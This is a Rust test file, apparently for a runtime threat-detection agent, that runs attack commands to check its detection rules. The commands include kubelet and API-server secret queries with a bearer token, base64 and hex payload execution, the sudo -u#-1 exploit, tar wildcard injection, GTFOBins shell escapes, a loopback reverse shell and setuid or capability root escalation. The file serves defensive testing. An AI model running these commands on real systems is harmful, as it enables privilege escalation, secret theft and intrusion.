            vec![(exec, "exec-web-shell-markers")],
        ),
        (
            "sh -c whoami '[S];pwd;echo [E]'".into(),
            true,
            vec![(exec, "exec-web-shell-markers")],
        ),
        ("echo S; pwd; echo E".into(), false, vec![]),
        // Accounts with user id 0 looked for (Atomic Red Team T1087.001, CrowdStrike's
        // detection container); the benign twins look for a name or the human accounts.
        (
            format!("grep 'x:0:' /etc/passwd > {d}/passwords"),
            true,
            vec![(discovery, "discovery-root-accounts")],
        ),
        (
            "cat /etc/passwd | grep '*:0:'".into(),
            true,
            vec![(discovery, "discovery-root-accounts")],
        ),
        (
            "awk -F: '($3 == \"0\") {print}' /etc/passwd".into(),
            true,
            vec![(discovery, "discovery-root-accounts")],
        ),
        (
            "cat /etc/passwd | awk -F: '$3==0{print $1}'".into(),
            true,
            vec![(discovery, "discovery-root-accounts")],
        ),
        // A node's kubelet and the API server called by hand from a pod (Elastic's Defend for
        // Containers rules); nothing listens on these ports here, the command is the behaviour.
        (
            "curl -sk --max-time 2 https://127.0.0.1:10250/pods".into(),
            true,
            vec![(discovery, "discovery-kubelet-api")],
        ),
        (
            "curl -sk --max-time 2 -X POST https://127.0.0.1:10250/run/default/web/app -d cmd=id"
                .into(),
            true,
            vec![(exec, "exec-kubelet-api-run")],
        ),
        (
            format!(
                "curl -sk --max-time 2 -H \"Authorization: Bearer $(cat {d}/token)\" https://127.0.0.1:6443/api/v1/namespaces/default/secrets"
            ),
            true,
            vec![(discovery, "discovery-kubernetes-api-token")],
        ),
        (
            "curl -s --max-time 2 http://127.0.0.1:10250".into(),
            true,
            vec![],
        ),
        ("grep '^root:' /etc/passwd".into(), true, vec![]),
        (
            "awk -F: '$3 >= 1000 {print $1}' /etc/passwd".into(),
            true,
            vec![],
        ),
    ];
    let mut failures = Vec::new();
    for (i, (line, as_script, want)) in cases.iter().enumerate() {
        let script = dir.0.join(format!("case-{i}.sh"));
        std::fs::write(&script, format!("{line}\n")).expect("script");
        let mut ways = vec![("sh -c", vec!["-c".to_owned(), line.clone()])];
        if *as_script {
            ways.push(("script", vec![script.display().to_string()]));
        }
        for (how, args) in ways {
            let pid = run(Command::new("sh")
                .args(&args)
                .current_dir(&dir.0)
                .env("PATH", &path));
            let found = detect(pid, ThreatIntel::empty());
            let mut got: Vec<(&str, &str)> = found
                .iter()
                .map(|f| (f.finding_type.as_str(), rule_id(f)))
                .collect();
            got.sort();
            got.dedup();
            eprintln!("{how}: {line} => {got:?}");
            let ok = if want.is_empty() {
                // Benign twins: nothing at Medium or above.
                found.iter().all(|f| f.severity_label == SeverityLabel::Low)
            } else {
                want.iter().all(|w| got.contains(w))
            };
            if !ok {
                failures.push(format!("{how}: {line}: want {want:?}, got {got:?}"));
            }
        }
    }
    let _ = std::fs::remove_file(&tmp_copy);
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Elastic's Red Team Automation (`rta/`, its Linux scripts), as the real tools do what the
/// scripts only name: an interpreter one-liner that decodes a program and executes it (the
/// Empire stager), a hex-escaped payload run by the shell, procfs mounted with hidepid to hide
/// processes, sudo asked for user id -1 (CVE-2019-14287; sudo is not installed here, a copy of
/// /bin/true named sudo stands in, as the rule knows sudo by name and arguments). Each case
/// runs as `sh -c` and as a line of a script; the benign twins raise nothing.
#[test]
fn elastic_rta_commands_as_the_real_tools_run_them() {
    if !privileged("elastic_rta_commands_as_the_real_tools_run_them") {
        return;
    }
    let dir = Scratch::new("rta");
    let bin = dir.0.join("bin");
    std::fs::create_dir_all(&bin).expect("bin");
    let sudo = bin.join("sudo");
    std::fs::copy("/bin/true", &sudo).expect("stand-in");
    std::fs::set_permissions(&sudo, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let procfs = dir.0.join("proc");
    std::fs::create_dir_all(&procfs).expect("mount point");
    let p = procfs.display().to_string();
    let path = format!("{}:/usr/sbin:/usr/bin:/sbin:/bin", bin.display());
    let exec = "Execution:Runtime/SuspiciousCommand";
    let evasion = "DefenseEvasion:Runtime/SuspiciousCommand";
    let privesc = "PrivilegeEscalation:Runtime/SuspiciousCommand";
    let cases: Vec<(String, Vec<(&str, &str)>)> = vec![
        (
            r#"/usr/bin/python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))""#.into(),
            vec![(exec, "exec-interpreter-decoded-program")],
        ),
        (
            r#"perl -MMIME::Base64 -e 'eval(decode_base64("MTs="))'"#.into(),
            vec![(exec, "exec-interpreter-decoded-program")],
        ),
        (
            r#"/usr/bin/python3 -c "import base64;print(base64.b64decode('aGk='))" >/dev/null"#
                .into(),
            vec![],
        ),
        (
            r#"bash -c "eval \"\$(printf '\\x69\\x64\\x3b\\x20\\x74\\x72\\x75\\x65')\"" >/dev/null"#
                .into(),
            vec![(exec, "exec-hex-payload-shell")],
        ),
        (
            r#"bash -c "eval \"\$(printf 'x=%s' 1)\"""#.into(),
            vec![],
        ),
        (
            format!("mount -t proc -o hidepid=2 proc {p} && umount {p}"),
            vec![(evasion, "evasion-proc-hidepid")],
        ),
        (format!("mount -t proc proc {p} && umount {p}"), vec![]),
        (
            "sudo -u#-1 id".into(),
            vec![(privesc, "privesc-sudo-runas-minus-one")],
        ),
        ("sudo -u '#1000' id".into(), vec![]),
    ];
    for (i, (line, want)) in cases.iter().enumerate() {
        let script = dir.0.join(format!("case-{i}.sh"));
        std::fs::write(&script, format!("{line}\n")).expect("script");
        let ways = [
            ("sh -c", vec!["-c".to_owned(), line.clone()]),
            ("script", vec![script.display().to_string()]),
        ];
        for (how, args) in ways {
            let pid = run(Command::new("sh")
                .args(&args)
                .current_dir(&dir.0)
                .env("PATH", &path));
            let found = detect(pid, ThreatIntel::empty());
            let mut got: Vec<(&str, &str)> = found
                .iter()
                .filter(|f| f.severity_label != SeverityLabel::Low)
                .map(|f| (f.finding_type.as_str(), rule_id(f)))
                .collect();
            got.sort();
            got.dedup();
            assert_eq!(got, *want, "{how}: {line}");
        }
    }
}

/// Elastic's Linux detection rules (`rules/linux/`) whose attacks are commands: tar's checkpoint
/// action and zip's test command running a shell (the wildcard injection: files named like
/// options that `*` expands into tar's argv), and tc attaching an eBPF program to an
/// interface's traffic (in a network namespace of its own; the object is not one, so tc fails
/// after the exec the rule reads), split's filter a bare shell. Each both ways, as `sh -c` and
/// as a line of a script.
#[test]
fn elastic_linux_rule_commands_as_the_real_tools_run_them() {
    if !privileged("elastic_linux_rule_commands_as_the_real_tools_run_them") {
        return;
    }
    let dir = Scratch::new("elastic");
    let wild = dir.0.join("wild");
    std::fs::create_dir_all(&wild).expect("wildcard directory");
    std::fs::write(wild.join("x.sh"), "true\n").expect("payload");
    std::fs::write(wild.join("--checkpoint=1"), "").expect("option file");
    std::fs::write(wild.join("--checkpoint-action=exec=sh x.sh"), "").expect("option file");
    std::fs::write(dir.0.join("x.o"), "not an object\n").expect("object");
    let exec = "Execution:Runtime/SuspiciousCommand";
    let cases: Vec<(&str, Vec<(&str, &str)>)> = vec![
        (
            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "cd wild && tar cf ../wild.tar *",
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "zip -q z.zip /etc/hostname -T -TT 'sh #'",
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "unshare -n tc filter add dev lo ingress bpf da obj x.o sec tc",
            vec![(exec, "exec-tc-bpf-filter")],
        ),
        (
            "echo true | split --filter=/bin/sh",
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        // Benign twins: progress dots, zip's own test, a u32 filter, a listing.
        (
            "tar --checkpoint=1 --checkpoint-action=dot -cf /dev/null /etc/hostname",
            vec![],
        ),
        ("zip -q z2.zip /etc/hostname -T", vec![]),
        (
            "unshare -n tc filter add dev lo parent ffff: protocol ip u32 match ip dst 127.0.0.1/32 action drop",
            vec![],
        ),
        ("unshare -n tc filter show dev lo", vec![]),
        ("echo x | split --filter='gzip > $FILE.gz'", vec![]),
    ];
    for (i, (line, want)) in cases.iter().enumerate() {
        let script = dir.0.join(format!("case-{i}.sh"));
        std::fs::write(&script, format!("{line}\n")).expect("script");
        let ways = [
            ("sh -c", vec!["-c".to_owned(), (*line).to_owned()]),
            ("script", vec![script.display().to_string()]),
        ];
        for (how, args) in ways {
            let _ = std::fs::remove_file(dir.0.join("z.zip"));
            let _ = std::fs::remove_file(dir.0.join("z2.zip"));
            let pid = run(Command::new("sh").args(&args).current_dir(&dir.0));
            let found = detect(pid, ThreatIntel::empty());
            let mut got: Vec<(&str, &str)> = found
                .iter()
                .filter(|f| f.severity_label != SeverityLabel::Low)
                .map(|f| (f.finding_type.as_str(), rule_id(f)))
                .collect();
            got.sort();
            got.dedup();
            assert_eq!(got, *want, "{how}: {line}");
        }
    }
}

/// GTFOBins' shells through the programs installed on a Debian host (docs/EFFICACY.md,
/// "GTFOBins through the programs installed here"): each program told to start a bare shell
/// as the GTFOBins entry writes it (standard input /dev/null, so the shell ends at once), and
/// the same program at ordinary work. Each both ways, as `sh -c` and as a line of a script.
#[test]
fn gtfobins_shells_through_the_programs_installed_here() {
    if !privileged("gtfobins_shells_through_the_programs_installed_here") {
        return;
    }
    let dir = Scratch::new("gtfo");
    let exec = "Execution:Runtime/SuspiciousCommand";
    let escape = vec![(exec, "exec-shell-escape-via-program")];
    let netns = format!("vgtfo{}", std::process::id());
    let cases: Vec<(String, Vec<(&str, &str)>)> = vec![
        ("timeout 7d /bin/sh".into(), escape.clone()),
        ("taskset 1 /bin/sh".into(), escape.clone()),
        ("setarch $(uname -m) /bin/sh".into(), escape.clone()),
        ("choom -n 0 /bin/sh".into(), escape.clone()),
        ("logsave /dev/null /bin/sh -i".into(), escape.clone()),
        ("/usr/bin/time /bin/sh".into(), escape.clone()),
        ("strace -o /dev/null /bin/sh".into(), escape.clone()),
        ("xargs -a /dev/null sh".into(), escape.clone()),
        (
            "start-stop-daemon -n vgtfo$$ -S -x /bin/sh".into(),
            escape.clone(),
        ),
        (
            "run-parts --new-session --regex '^sh$' /bin".into(),
            escape.clone(),
        ),
        ("dmsetup ls --exec '/bin/sh -s'".into(), escape.clone()),
        (
            "tar xf /dev/null -I '/bin/sh -c \"sh <&2 1>&2\"'".into(),
            escape.clone(),
        ),
        ("gdb -nx -batch -ex '!sh' -ex quit".into(), escape.clone()),
        ("sqlite3 /dev/null '.shell /bin/sh'".into(), escape.clone()),
        (
            "make -s --eval=\"$(printf 'x:\\n\\t-/bin/sh')\"".into(),
            escape.clone(),
        ),
        (
            "sed -n '1e exec sh 1>&0' /etc/hostname".into(),
            escape.clone(),
        ),
        (
            format!(
                "ip netns add {netns} && ip netns exec {netns} /bin/sh; ip netns delete {netns}"
            ),
            escape.clone(),
        ),
        // Benign twins: the same programs at ordinary work.
        ("timeout 5 /bin/sh -c true".into(), vec![]),
        ("taskset 1 true".into(), vec![]),
        ("setarch $(uname -m) true".into(), vec![]),
        ("/usr/bin/time -o /dev/null true".into(), vec![]),
        ("strace -o /dev/null -f /bin/sh -c true".into(), vec![]),
        ("echo a b | xargs -n1 echo".into(), vec![]),
        ("run-parts --test /etc/cron.daily".into(), vec![]),
        ("tar -I gzip -cf /dev/null /etc/hostname".into(), vec![]),
        ("gdb -nx -batch -ex 'print 1'".into(), vec![]),
        ("sqlite3 /dev/null '.tables'".into(), vec![]),
        ("sed -n 1p /etc/hostname".into(), vec![]),
        ("make -s -f /dev/null --eval='x: ; @true' x".into(), vec![]),
    ];
    for (i, (line, want)) in cases.iter().enumerate() {
        let program = line.split_whitespace().next().unwrap_or_default();
        if Command::new("sh")
            .args(["-c", &format!("command -v {program}")])
            .stdout(Stdio::null())
            .status()
            .map_or(true, |s| !s.success())
        {
            // scripts/bootstrap.sh installs every one of them; say so where one is missing.
            eprintln!("gtfobins case not run, {program} is not installed: {line}");
            continue;
        }
        let script = dir.0.join(format!("case-{i}.sh"));
        std::fs::write(&script, format!("{line}\n")).expect("script");
        let ways = [
            ("sh -c", vec!["-c".to_owned(), line.clone()]),
            ("script", vec![script.display().to_string()]),
        ];
        for (how, args) in ways {
            let pid = run(Command::new("sh").args(&args).current_dir(&dir.0));
            let found = detect(pid, ThreatIntel::empty());
            let mut got: Vec<(&str, &str)> = found
                .iter()
                .filter(|f| f.severity_label != SeverityLabel::Low)
                .map(|f| (f.finding_type.as_str(), rule_id(f)))
                .collect();
            got.sort();
            got.dedup();
            assert_eq!(got, *want, "{how}: {line}");
        }
    }
}

#[test]
fn setuid_root_program_run_by_nobody_is_elevation_to_root() {
    if !privileged("setuid_root_program_run_by_nobody_is_elevation_to_root") {
        return;
    }
    let dir = Scratch::new("suid");
    let suid = dir.program("/usr/bin/id", "rootme");
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).expect("setuid");
    let plain = dir.program("/usr/bin/id", "plainid");
    let as_nobody = |path: &Path| {
        let mut cmd = Command::new(path);
        cmd.uid(65534).gid(65534);
        run(&mut cmd)
    };
    let pid = as_nobody(&suid);
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(
        types(&found),
        ["PrivilegeEscalation:Runtime/ElevationToRoot"]
    );
    let f = &found[0];
    assert_eq!(
        f.context.additional.get("realUid").map(String::as_str),
        Some("65534")
    );
    let p = f.process.as_ref().expect("process");
    assert_eq!((p.uid, p.euid), (65534, 0));

    let pid = as_nobody(&plain);
    assert!(detect(pid, ThreatIntel::empty()).is_empty());
}

/// Root gained through a file capability, with no setuid bit and nothing in any exec: a copy of
/// an interpreter given `cap_setuid+ep` (what `setcap cap_setuid+ep $(which python3)` leaves)
/// calls `setuid(0)` for nobody and runs a shell (GTFOBins' form, which third-party tests of
/// ElevationToRoot use); a copy of vigil-trigger given the capability does it with
/// `setresuid`. The kernel recorded the uids before and after the call. The same program
/// setting uid 65534 for nobody (no change), and root dropping to nobody, raise nothing.
#[test]
fn root_gained_through_cap_setuid_is_elevation_to_root() {
    if !privileged("root_gained_through_cap_setuid_is_elevation_to_root") {
        return;
    }
    let dir = Scratch::new("capsetuid");
    let setcap = |path: &Path| {
        let ok = Command::new("setcap")
            .arg("cap_setuid+ep")
            .arg(path)
            .status()
            .is_ok_and(|s| s.success());
        assert!(
            ok,
            "setcap cap_setuid+ep {} (libcap's setcap is needed)",
            path.display()
        );
    };
    let as_nobody = |cmd: &mut Command| {
        cmd.uid(65534).gid(65534);
        run(cmd)
    };
    let elevation = |pid: u32| -> Vec<Finding> {
        detect(pid, ThreatIntel::empty())
            .into_iter()
            .filter(|f| f.finding_type.as_str() == "PrivilegeEscalation:Runtime/ElevationToRoot")
            .collect()
    };

    let trigger = dir.program(TRIGGER, "capped");
    setcap(&trigger);
    let pid = as_nobody(Command::new(&trigger).args(["setresuid", "0"]));
    let found = elevation(pid);
    assert_eq!(found.len(), 1, "{found:?}");
    let f = &found[0];
    let a = &f.context.additional;
    assert_eq!(
        a.get("syscall").map(String::as_str),
        Some("setresuid(0, 0, 0)")
    );
    assert_eq!(a.get("realUid").map(String::as_str), Some("65534"));
    assert_eq!(
        a.get("ruleId").map(String::as_str),
        Some("elevation-setuid-root")
    );
    let p = f.process.as_ref().expect("process");
    assert_eq!(p.pid, pid);
    assert_eq!(p.euid, 0);
    assert_eq!(p.executable_path, trigger.display().to_string());
    assert_eq!(f.severity_label, SeverityLabel::Medium);

    // Nothing gained: the capability used to stay nobody, and root dropping to nobody.
    let pid = as_nobody(Command::new(&trigger).args(["setresuid", "65534"]));
    assert!(elevation(pid).is_empty());
    let pid = run(Command::new(TRIGGER).args(["setresuid", "65534"]));
    assert!(elevation(pid).is_empty());

    // As a third party writes it: a python given the capability.
    let python = ["/usr/bin/python3", "/usr/local/bin/python3"]
        .into_iter()
        .find(|p| Path::new(p).exists());
    let Some(python) = python else {
        eprintln!("NOT TESTED the python form: no python3 in /usr/bin or /usr/local/bin");
        return;
    };
    let capped_python = dir.program(python, "python3");
    setcap(&capped_python);
    let pid = as_nobody(Command::new(&capped_python).args([
        "-c",
        "import os; os.setuid(0); os.system('/bin/sh -c true')",
    ]));
    let found = elevation(pid);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        found[0]
            .context
            .additional
            .get("syscall")
            .map(String::as_str),
        Some("setuid(0)")
    );
    assert_eq!(
        found[0]
            .process
            .as_ref()
            .map(|p| p.executable_path.as_str()),
        Some(capped_python.to_str().unwrap())
    );
}

#[test]
fn interactive_shell_started_by_a_web_server() {
    if !privileged("interactive_shell_started_by_a_web_server") {
        return;
    }
    let dir = Scratch::new("shell");
    let nginx = dir.program("/bin/sh", "nginx");
    // `; true` keeps the shell from exec'ing its last command in place: the child forks.
    let pid = run(Command::new(&nginx).args(["-c", "sh -i </dev/null; true"]));
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(types(&found), ["Execution:Runtime/SuspiciousShellCreated"]);
    let p = found[0].process.as_ref().expect("process");
    assert_eq!(
        p.lineage.first().map(|a| a.pid),
        Some(pid),
        "the web server is the parent"
    );
    assert_eq!(p.lineage.first().map(|a| a.name.as_str()), Some("nginx"));

    // A command string run for the web server is a web shell's; a helper of its own alone (its
    // piped log's `rotatelogs`, not installed here) is not.
    let pid = run(Command::new(&nginx).args(["-c", "sh -c true; true"]));
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(types(&found), ["Execution:Runtime/SuspiciousShellCreated"]);
    assert_eq!(
        found[0]
            .context
            .additional
            .get("ruleId")
            .map(String::as_str),
        Some("behaviour-shell-from-web-server")
    );
    let pid = run(Command::new(&nginx).args([
        "-c",
        "sh -c 'exec /usr/sbin/rotatelogs /var/log/vigil-x 86400'; true",
    ]));
    assert!(detect(pid, ThreatIntel::empty()).is_empty());
}

#[test]
fn shell_with_its_standard_streams_on_a_tcp_connection_is_a_reverse_shell() {
    if !privileged("shell_with_its_standard_streams_on_a_tcp_connection_is_a_reverse_shell") {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let addr = listener.local_addr().expect("addr");
    let stream = std::net::TcpStream::connect(addr).expect("connect");
    let (_peer, _) = listener.accept().expect("accept");
    let stdin = stream.try_clone().expect("clone");
    // What `nc -e sh` or a /dev/tcp redirection sets up: the shell reads and writes the socket.
    LazyLock::force(&AGENT);
    let mut child = Command::new("sh")
        .args(["-c", "echo hello"])
        .stdin(Stdio::from(std::os::fd::OwnedFd::from(stdin)))
        .stdout(Stdio::from(std::os::fd::OwnedFd::from(stream)))
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    let pid = child.id();
    child.wait().expect("wait");
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(types(&found), ["Execution:Runtime/ReverseShell"]);
    let local = found[0].context.additional.get("stdioPeer").cloned();
    assert_eq!(
        local,
        Some(addr.to_string()),
        "the peer of the shell's stdin"
    );

    let pid = run(Command::new("sh").args(["-c", "echo hello"]));
    assert!(detect(pid, ThreatIntel::empty()).is_empty());
}

#[test]
fn file_on_a_hash_list_is_a_malicious_file_executed() {
    if !privileged("file_on_a_hash_list_is_a_malicious_file_executed") {
        return;
    }
    let dir = Scratch::new("hash");
    let make = |name: &str, extra: &str| {
        let path = dir.program("/bin/true", name);
        let mut bytes = std::fs::read(&path).expect("read");
        // Trailing bytes keep the ELF runnable and give the copy its own hash.
        bytes.extend_from_slice(format!("{extra}{}", nonce()).as_bytes());
        std::fs::write(&path, &bytes).expect("write");
        let hex: String = Sha256::digest(&bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        (path, hex)
    };
    let (bad, bad_hash) = make("payload", "bad");
    let (good, _) = make("harmless", "good");
    let intel = || {
        intel_from(
            &dir.0,
            &[(
                "test-malware-hashes",
                IndicatorKind::Sha256,
                &[bad_hash.as_str()],
                FindingType::ExecutionMaliciousFileExecuted,
            )],
        )
    };
    let pid = run(&mut Command::new(&bad));
    let found = detect(pid, intel());
    assert_eq!(types(&found), ["Execution:Runtime/MaliciousFileExecuted"]);
    let ev = &found[0]
        .evidence
        .as_ref()
        .expect("evidence")
        .threat_intelligence_details[0];
    assert_eq!(
        (ev.threat_list_name.as_str(), ev.indicator.as_str()),
        ("test-malware-hashes", bad_hash.as_str())
    );
    assert_eq!(
        found[0]
            .process
            .as_ref()
            .and_then(|p| p.executable_sha256.as_deref()),
        Some(bad_hash.as_str())
    );

    let pid = run(&mut Command::new(&good));
    assert!(detect(pid, intel()).is_empty());
}

#[test]
fn connects_to_listed_addresses_raise_their_types_and_trusted_ones_do_not() {
    if !privileged("connects_to_listed_addresses_raise_their_types_and_trusted_ones_do_not") {
        return;
    }
    let dir = Scratch::new("ip");
    let cases: &[(&str, FindingType)] = &[
        ("127.66.0.1", FindingType::BackdoorCcActivityB),
        ("127.66.0.2", FindingType::CryptoCurrencyBitcoinToolB),
        ("127.66.0.3", FindingType::UnauthorizedAccessTorClient),
        ("127.66.0.4", FindingType::TrojanBlackholeTraffic),
        ("127.66.0.5", FindingType::TrojanDropPoint),
    ];
    let mut lists: Vec<(String, [&str; 1], FindingType)> = cases
        .iter()
        .enumerate()
        .map(|(i, (ip, t))| (format!("test-ips-{i}"), [*ip], *t))
        .collect();
    // A listed range with one trusted address in it.
    lists.push((
        "test-range".into(),
        ["127.66.9.0/24"],
        FindingType::BackdoorCcActivityB,
    ));
    let specs: Vec<(&str, IndicatorKind, &[&str], FindingType)> = lists
        .iter()
        .map(|(n, e, t)| (n.as_str(), IndicatorKind::Ip, &e[..], *t))
        .collect();
    let intel = || intel_with_trusted(&dir.0, &specs, &["127.66.9.9"]);
    let connect = |ip: &str| {
        let listener = TcpListener::bind((ip, 0)).expect("bind a loopback address");
        let addr = listener.local_addr().expect("addr");
        let pid = run(Command::new(TRIGGER).args(["connect", &addr.to_string()]));
        (pid, addr)
    };
    for (ip, t) in cases {
        let (pid, addr) = connect(ip);
        let found = detect(pid, intel());
        assert_eq!(types(&found), [t.as_str()], "{ip}");
        let n = found[0].network.as_ref().expect("network");
        assert_eq!((n.remote_ip.as_str(), n.remote_port), (*ip, addr.port()));
    }
    let (pid, _) = connect("127.66.9.8");
    assert_eq!(
        types(&detect(pid, intel())),
        ["Backdoor:Runtime/C&CActivity.B"],
        "in the listed range"
    );
    let (pid, _) = connect("127.66.9.9");
    assert!(detect(pid, intel()).is_empty(), "trusted address");
    let (pid, _) = connect("127.0.0.1");
    assert!(detect(pid, intel()).is_empty(), "unlisted address");
}

#[test]
fn inbound_connection_from_a_listed_relay_is_tor_relay() {
    if !privileged("inbound_connection_from_a_listed_relay_is_tor_relay") {
        return;
    }
    LazyLock::force(&AGENT);
    let dir = Scratch::new("tor-relay");
    let specs: [(&str, IndicatorKind, &[&str], FindingType); 1] = [(
        "test-tor-relays",
        IndicatorKind::Ip,
        &["127.66.0.6"],
        FindingType::UnauthorizedAccessTorRelay,
    )];
    let intel = || intel_from(&dir.0, &specs);
    // A listener process accepts one connection that this test makes from `source`.
    let accept_from = |source: &str| {
        let mut child = Command::new(TRIGGER)
            .args(["accept", "127.0.0.1:0"])
            .stdout(Stdio::piped())
            .spawn()
            .expect("spawn the listener");
        let pid = child.id();
        let mut line = String::new();
        BufReader::new(child.stdout.take().expect("stdout"))
            .read_line(&mut line)
            .expect("bound address");
        let bound: std::net::SocketAddr = line.trim().parse().expect("address");
        connect_from(source, bound);
        child.wait().expect("wait");
        pid
    };
    let pid = accept_from("127.66.0.6");
    let found = detect(pid, intel());
    assert_eq!(types(&found), ["UnauthorizedAccess:Runtime/TorRelay"]);
    let n = found[0].network.as_ref().expect("network");
    assert_eq!(n.remote_ip, "127.66.0.6");
    let pid = accept_from("127.66.0.7");
    assert!(detect(pid, intel()).is_empty(), "an unlisted peer");
}

/// Connects to `to` from the loopback address `from` (std cannot bind a client socket).
fn connect_from(from: &str, to: std::net::SocketAddr) {
    let from: std::net::Ipv4Addr = from.parse().expect("IPv4 source");
    let std::net::SocketAddr::V4(to) = to else {
        panic!("IPv4 listener expected")
    };
    let sockaddr = |ip: std::net::Ipv4Addr, port: u16| libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from(ip).to_be(),
        },
        sin_zero: [0; 8],
    };
    let local = sockaddr(from, 0);
    let remote = sockaddr(*to.ip(), to.port());
    let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
    // SAFETY: a fresh socket, valid sockaddr_in structs and lengths; closed below.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        assert!(fd >= 0, "socket");
        assert_eq!(
            libc::bind(fd, (&local as *const libc::sockaddr_in).cast(), len),
            0,
            "bind {from}"
        );
        assert_eq!(
            libc::connect(fd, (&remote as *const libc::sockaddr_in).cast(), len),
            0,
            "connect"
        );
        libc::close(fd);
    }
}

/// A network namespace with a stub resolver on 127.0.0.53:53 answering every name with `ip`,
/// and a resolv.conf for programs run in it (`ip netns exec` bind-mounts /etc/netns/NAME/).
struct Resolver {
    ns: String,
    server: Child,
}

impl Resolver {
    fn start(answer: &str) -> Self {
        let ns = format!("vigil-det-{}", nonce());
        let ok = |args: &[&str]| {
            let status = Command::new("ip").args(args).status().expect("run ip");
            assert!(status.success(), "ip {args:?} failed");
        };
        ok(&["netns", "add", &ns]);
        ok(&["netns", "exec", &ns, "ip", "link", "set", "lo", "up"]);
        let etc = PathBuf::from("/etc/netns").join(&ns);
        std::fs::create_dir_all(&etc).expect("/etc/netns dir");
        std::fs::write(
            etc.join("resolv.conf"),
            "nameserver 127.0.0.53\noptions timeout:1 attempts:1\n",
        )
        .expect("resolv.conf");
        let mut server = Command::new("ip")
            .args([
                "netns",
                "exec",
                &ns,
                TRIGGER,
                "dns-server",
                "127.0.0.53:53",
                answer,
            ])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("start the stub resolver");
        let mut ready = String::new();
        BufReader::new(server.stdout.take().expect("stdout"))
            .read_line(&mut ready)
            .expect("ready line");
        assert_eq!(ready.trim(), "ready");
        Self { ns, server }
    }

    /// Runs a program inside the namespace; returns its pid.
    fn run(&self, program: &str, args: &[&str]) -> u32 {
        let mut all = vec!["netns", "exec", &self.ns, program];
        all.extend_from_slice(args);
        run(Command::new("ip").args(&all))
    }

    fn query(&self, name: &str) -> u32 {
        self.run(TRIGGER, &["dns-query", "127.0.0.53:53", name])
    }
}

impl Drop for Resolver {
    fn drop(&mut self) {
        if let Some(mut stdin) = self.server.stdin.take() {
            let _ = stdin.write_all(b"\n");
        }
        let _ = self.server.wait();
        let _ = Command::new("ip")
            .args(["netns", "delete", &self.ns])
            .status();
        let _ = std::fs::remove_dir_all(PathBuf::from("/etc/netns").join(&self.ns));
    }
}

#[test]
fn dns_queries_for_listed_names_raise_their_types() {
    if !privileged("dns_queries_for_listed_names_raise_their_types") {
        return;
    }
    let dir = Scratch::new("dns");
    let cases: &[(&str, FindingType)] = &[
        ("c2.vigil-test.example", FindingType::BackdoorCcActivityBDns),
        (
            "pool.vigil-test.example",
            FindingType::CryptoCurrencyBitcoinToolBDns,
        ),
        (
            "sink.vigil-test.example",
            FindingType::TrojanBlackholeTrafficDns,
        ),
        ("drop.vigil-test.example", FindingType::TrojanDropPointDns),
        (
            "driveby.vigil-test.example",
            FindingType::TrojanDriveBySourceTrafficDns,
        ),
        (
            "phish.vigil-test.example",
            FindingType::TrojanPhishingDomainRequestDns,
        ),
        (
            "abused.vigil-test.example",
            FindingType::ImpactAbusedDomainRequestReputation,
        ),
        (
            "coins.vigil-test.example",
            FindingType::ImpactBitcoinDomainRequestReputation,
        ),
        (
            "bad.vigil-test.example",
            FindingType::ImpactMaliciousDomainRequestReputation,
        ),
        (
            "odd.vigil-test.example",
            FindingType::ImpactSuspiciousDomainRequestReputation,
        ),
    ];
    let names: Vec<(String, [&str; 1], FindingType)> = cases
        .iter()
        .enumerate()
        .map(|(i, (d, t))| (format!("test-domains-{i}"), [*d], *t))
        .collect();
    let specs: Vec<(&str, IndicatorKind, &[&str], FindingType)> = names
        .iter()
        .map(|(n, e, t)| (n.as_str(), IndicatorKind::Domain, &e[..], *t))
        .collect();
    let intel = || intel_from(&dir.0, &specs);
    let resolver = Resolver::start("10.53.0.7");
    for (domain, t) in cases {
        // A subdomain: list entries cover their subdomains.
        let name = format!("{}.{domain}", nonce());
        let pid = resolver.query(&name);
        let found = detect(pid, intel());
        assert_eq!(types(&found), [t.as_str()], "{name}");
        let f = &found[0];
        assert_eq!(
            f.dns.as_ref().map(|d| d.domain.as_str()),
            Some(name.as_str())
        );
        assert_eq!(f.dns.as_ref().map(|d| d.protocol.as_str()), Some("UDP"));
        assert_eq!(
            f.evidence
                .as_ref()
                .map(|e| e.threat_intelligence_details.len()),
            Some(1)
        );
    }
    let pid = resolver.query(&format!("{}.ok.vigil-test.example", nonce()));
    assert!(detect(pid, intel()).is_empty(), "unlisted name");
}

/// The domains AWS's GuardDuty tester asks for (`threatIntel/request.sh`) raise the DNS types
/// the tester expects, from the built-in intel: the tester checks Vigil as it checks GuardDuty.
#[test]
fn the_guardduty_tester_domains_raise_the_types_it_expects() {
    if !privileged("the_guardduty_tester_domains_raise_the_types_it_expects") {
        return;
    }
    let (intel, _) = vigil_detection::load(&IntelConfig::default()).expect("built-in intel");
    let mut d = detector(intel);
    let resolver = Resolver::start("10.53.0.7");
    let c2 = FindingType::BackdoorCcActivityBDns.as_str();
    let lists_of = |f: &Finding| -> Vec<String> {
        f.evidence
            .iter()
            .flat_map(|e| &e.threat_intelligence_details)
            .map(|t| t.threat_list_name.clone())
            .collect()
    };
    for list in vigil_detection::GUARDDUTY_TESTER_LISTS {
        let pid = resolver.query(list.domain);
        let found = findings(&mut d, &tree_events(pid));
